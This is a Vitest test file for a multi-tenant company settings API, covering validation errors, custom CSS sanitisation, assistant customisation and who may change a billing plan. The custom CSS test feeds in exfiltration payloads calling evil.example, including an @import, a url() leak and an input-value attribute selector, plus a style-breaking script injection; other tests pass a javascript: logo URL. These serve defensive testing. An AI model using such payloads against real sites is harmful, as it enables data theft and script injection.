import { describe, expect, it } from 'vitest';
import { createTestApp } from '../../support/test-app.js';
import { makeWorld, request, settingsPayload, snapshot } from './company-settings-fixtures.js';

const t = await createTestApp();

async function save(changes: Record<string, unknown>, who: 'admin' | 'platformAdmin' = 'admin') {
  const w = await makeWorld(t);
  const before = await snapshot(t, w.company.id);
  const res = await request(
    t,
    w[who],
    'POST',
    `/api/admin/companies/${w.company.slug}/settings`,
    settingsPayload(w.company, changes),
  );
  return { w, res, before, after: await snapshot(t, w.company.id) };
}

const LOGO = 'Logo URL must be a valid image URL (.jpg, .jpeg, .png, .gif, .webp or .svg)';
const FAVICON = 'Favicon URL must be a valid image URL (.ico, .png, .svg formats recommended)';
const PRIMARY = 'Primary color must be a valid hex color (e.g., #0066CC)';
const SECONDARY = 'Secondary color must be a valid hex color (e.g., #4A90E2)';
const HINT = 'Use a JSON object of value to label, e.g. {"witty": "Witty"}';

describe('company settings: every validation message, and nothing changes', () => {
  it.each([
    ['empty name', { companyName: '  ' }, 'Company name is required'],
    ['no name', { companyName: undefined }, 'Company name is required'],
    ['empty id', { companyId: '' }, 'Company ID is required'],
    ['no id', { companyId: undefined }, 'Company ID is required'],
    [
      'id with capitals',
      { companyId: 'Acme Corp' },
      'Company ID can only contain lowercase letters, numbers, and hyphens',
    ],
    [
      'another id',
      { companyId: 'renamed-co' },
      'The company ID cannot be changed for an existing company',
    ],
    ['primary colour name', { primaryColor: 'blue' }, PRIMARY],
    ['primary colour short', { primaryColor: '#06C' }, PRIMARY],
    ['primary colour not hex', { primaryColor: '#GG66CC' }, PRIMARY],
    ['secondary colour', { secondaryColor: '4A90E2' }, SECONDARY],
    ['logo not an image', { logoUrl: 'https://acme.example/logo.bmp' }, LOGO],
    ['logo not a URL', { logoUrl: 'logo.png' }, LOGO],
    ['logo javascript', { logoUrl: 'javascript:alert(1)//x.png' }, LOGO],
    ['logo protocol-relative', { logoUrl: '//evil.example/x.png' }, LOGO],
    ['favicon not an image', { faviconUrl: 'https://acme.example/favicon.txt' }, FAVICON],
    ['favicon ftp', { faviconUrl: 'ftp://acme.example/favicon.ico' }, FAVICON],
    [
      'CSS over 50 KB',
      { customCss: `a{color:red}${' '.repeat(50 * 1024)}` },
      'Custom CSS is too long (50 KB at most)',
    ],
    [
      'unknown assistant',
      { assistantCustomization: { twitter: { description: 'x' } } },
      'Unknown assistant type: twitter',
    ],
    [
      'key of another assistant',
      { assistantCustomization: { facebook: { page_topic_example: 'x' } } },
      '"page_topic_example" is not a customization key of Facebook',
    ],
    [
      'option list not JSON',
      { assistantCustomization: { facebook: { tone_options: '{witty: Witty}' } } },
      `Tone Options (Facebook): Not valid JSON. ${HINT}`,
    ],
    [
      'option list an array',
      { assistantCustomization: { blog: { length_options: '["Short"]' } } },
      `Length Options (Blog Article): Not a JSON object. ${HINT}`,
    ],
    [
      'option label not text',
      { assistantCustomization: { website: { word_count_options: '{"short": 300}' } } },
      `Word Count Options (Website Content): The label of "short" must be text in quotes. ${HINT}`,
    ],
    [
      'empty option value',
      { assistantCustomization: { facebook: { tone_options: '{"": "Blank"}' } } },
      `Tone Options (Facebook): An option value is empty. ${HINT}`,
    ],
  ])('%s', async (_name, changes, message) => {
    const { res, before, after } = await save(changes);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(message);
    expect(after).toEqual(before);
  });

  it('accepts image URLs with any case, a query string, a site path, or empty', async () => {
    const { res, after } = await save({
      logoUrl: 'https://cdn.acme.example/brand/Logo.SVG?v=2',
      faviconUrl: '/favicon.ico',
      primaryColor: '#aabbcc',
    });
    expect(res.statusCode).toBe(200);
    expect(after.row).toMatchObject({
      logoUrl: 'https://cdn.acme.example/brand/Logo.SVG?v=2',
      faviconUrl: '/favicon.ico',
      primaryColor: '#AABBCC',
    });
    const cleared = await save({ logoUrl: '', faviconUrl: '' });
    expect(cleared.res.statusCode).toBe(200);
    expect(cleared.after.row).toMatchObject({ logoUrl: '', faviconUrl: '' });
  });
});

describe('custom CSS', () => {
  it('is stored sanitised and answered sanitised, also to the tenant info', async () => {
    const css = [
      '@import url(https://evil.example/x.css);',
      '.brand{color:#c00;background:url(https://evil.example/?leak)}',
      'input[value^="a"]{background:url(//evil.example/a)}',
      '.note::after{content:"</style><script>alert(1)</script>"}',
      '.logo{background:url(/images/logo.png)}',
    ].join('\n');
    const { w, res, after } = await save({ customCss: css });
    expect(res.statusCode).toBe(200);
    const expected =
      '.brand{color:#c00}.note::after{content:"\\3c /style>\\3c script>alert(1)\\3c /script>"}' +
      '.logo{background:url(/images/logo.png)}';
    expect(res.json().customCss).toBe(expected);
    expect(after.row.customCss).toBe(expected);
    const info = await request(t, w.signedOut, 'GET', '/api/tenant/info');
    expect(info.json().customCss).toBe(expected);
  });
});

describe('assistant customisation', () => {
  it('stores valid values, trims them and drops empty ones (an empty field clears)', async () => {
    const { w, res, after } = await save({
      assistantCustomization: {
        facebook: {
          description: '  Posts for Acme  ',
          tone_options: '{"witty": "Witty", "dry": "Dry"}',
          topic_example: '',
        },
        blog: { length_options: '' },
      },
    });
    expect(res.statusCode).toBe(200);
    const stored = {
      facebook: { description: 'Posts for Acme', tone_options: '{"witty": "Witty", "dry": "Dry"}' },
    };
    expect(res.json().assistantCustomization).toEqual(stored);
    expect(after.row.assistantCustomization).toEqual(stored);
    const info = await request(t, w.user, 'GET', '/api/tenant/info');
    expect(info.json().assistantCustomization).toEqual(stored);

    // Saving the list empty clears it.
    const cleared = await request(
      t,
      w.admin,
      'POST',
      `/api/admin/companies/${w.company.slug}/settings`,
      settingsPayload(w.company, { assistantCustomization: { facebook: { tone_options: '' } } }),
    );
    expect(cleared.json().assistantCustomization).toEqual({});
  });

  it('fields left out stay as they are', async () => {
    const w = await makeWorld(t);
    const url = `/api/admin/companies/${w.company.slug}/settings`;
    await request(t, w.admin, 'POST', url, {
      ...settingsPayload(w.company),
      assistantCustomization: { facebook: { description: 'Kept' } },
      customCss: '.a{color:red}',
    });
    const res = await request(t, w.admin, 'POST', url, {
      companyName: 'Only The Name',
      companyId: w.company.slug,
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      companyName: 'Only The Name',
      customCss: '.a{color:red}',
      assistantCustomization: { facebook: { description: 'Kept' } },
    });
  });
});

describe('plan', () => {
  const plan = { planName: 'Pro', planMonthlyPrice: 49.99, planGenerationLimit: 500 };

  it('operator staff set it; null means unlimited', async () => {
    const { w, res, after } = await save({ plan }, 'platformAdmin');
    expect(res.statusCode).toBe(200);
    expect(res.json().plan).toEqual(plan);
    expect(after.row).toMatchObject({
      planName: 'Pro',
      planMonthlyPrice: 49.99,
      planGenerationLimit: 500,
    });
    const unlimited = await request(
      t,
      w.staffAdmin,
      'POST',
      `/api/admin/companies/${w.company.slug}/settings`,
      settingsPayload(w.company, { plan: { ...plan, planGenerationLimit: null } }),
    );
    expect(unlimited.json().plan.planGenerationLimit).toBeNull();
  });

  it('a company admin who tries to change it gets 403 and nothing changes', async () => {
    const { res, before, after } = await save({ companyName: 'Sneaky', plan });
    expect(res.statusCode).toBe(403);
    expect(res.json()).toEqual({ message: 'Only platform operators can change the plan' });
    expect(after).toEqual(before);
  });

  it('a company admin may send the plan back unchanged', async () => {
    const unchanged = { planName: 'Starter', planMonthlyPrice: 0, planGenerationLimit: null };
    const { res } = await save({ companyName: 'Fine', plan: unchanged });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ companyName: 'Fine', plan: unchanged });
  });

  it.each([
    ['empty name', { ...plan, planName: ' ' }, 'Plan name is required'],
    [
      'negative price',
      { ...plan, planMonthlyPrice: -1 },
      'Monthly price must be a number of 0 or more (e.g., 49.99)',
    ],
    [
      'fraction of a cent',
      { ...plan, planMonthlyPrice: 1.005 },
      'Monthly price must be a number of 0 or more (e.g., 49.99)',
    ],
    [
      'fractional limit',
      { ...plan, planGenerationLimit: 1.5 },
      'Monthly generation limit must be a whole number of 0 or more (empty for unlimited)',
    ],
    [
      'text limit',
      { ...plan, planGenerationLimit: '100' },
      'Monthly generation limit must be a whole number of 0 or more (empty for unlimited)',
    ],
  ])('%s -> 400', async (_name, bad, message) => {
    const { res, before, after } = await save({ plan: bad }, 'platformAdmin');
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(message);
    expect(after).toEqual(before);
  });
});
